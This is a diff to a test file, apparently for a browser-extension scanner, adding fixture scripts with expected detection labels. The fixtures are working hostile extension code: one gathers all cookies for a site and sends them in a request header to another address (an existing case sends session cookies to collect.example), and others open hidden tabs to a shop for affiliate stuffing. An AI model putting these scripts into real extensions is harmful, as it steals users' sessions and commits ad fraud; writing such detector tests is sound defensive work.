@@ -68,6 +68,14 @@ const ofModule = (matches: string): Case => ({
   },
 });
 
+/** Cookies of a site, read by a helper that is told a request, which goes on to an address. */
+const ofRequest = (address: string): string =>
+  `async function read(request) { const { host } = /https?:..(?<host>[^/]+)/.exec(request.url).groups; return JSON.stringify(await chrome.cookies.getAll({ domain: host })); } async function send(request, other) { return fetch(${address}, { headers: { 'X-Kept': await read(request) } }); } chrome.alarms.onAlarm.addListener(() => { for (const one of list) send(one, list[0]); });`;
+
+/** A page that is opened where nobody sees it, to be shown again once the site has let it in; opened as `first` says. */
+const untilLetIn = (first: string, test = 'id === made.id'): string =>
+  `async function load() { try { await get(); } catch { await open(); } } async function open() { const made = await chrome.tabs.create({ active: false, url: 'https://shop.example/' }); const heard = (id, change) => { if (${test} && change.title) { chrome.tabs.onUpdated.removeListener(heard); chrome.tabs.remove(made.id); load(); } }; chrome.tabs.onUpdated.addListener(heard); } ${first}`;
+
 it.each<[string, Case, readonly string[], Case, readonly string[]]>([
   [
     'a session cookie that goes back to its own site',
@@ -81,6 +89,34 @@ it.each<[string, Case, readonly string[], Case, readonly string[]]>([
       script: SESSION.replace('ADDRESS', 'https://collect.example/x'),
     },
     ['session-cookies-taken'],
+  ],
+  [
+    'cookies that go back to the very address that they are of',
+    { permissions: ['cookies', '<all_urls>'], script: ofRequest('request.url') },
+    ['browsing-data-to-network'],
+    { permissions: ['cookies', '<all_urls>'], script: ofRequest('other.url') },
+    ['browsing-data-to-network', 'session-cookies-taken'],
+  ],
+  [
+    'a tab that a click opened, which is heard of until it is there',
+    { permissions: ['tabs'], script: untilLetIn('chrome.action.onClicked.addListener(load);') },
+    ['affiliate-stuffing'],
+    { permissions: ['tabs'], script: untilLetIn('setInterval(load, 60000);') },
+    ['affiliate-stuffing', 'visits-unseen'],
+  ],
+  [
+    'the same, beside any tab that goes somewhere',
+    { permissions: ['tabs'], script: untilLetIn('chrome.action.onClicked.addListener(load);') },
+    ['affiliate-stuffing'],
+    { permissions: ['tabs'], script: untilLetIn('chrome.action.onClicked.addListener(load);', 'id') },
+    ['affiliate-stuffing', 'visits-unseen'],
+  ],
+  [
+    'the same, opened as it starts',
+    { permissions: ['tabs'], script: untilLetIn('chrome.action.onClicked.addListener(load);') },
+    ['affiliate-stuffing'],
+    { permissions: ['tabs'], script: untilLetIn('load();') },
+    ['affiliate-stuffing', 'visits-unseen'],
   ],
   [
     'the page of shortcuts, which a button leads to',
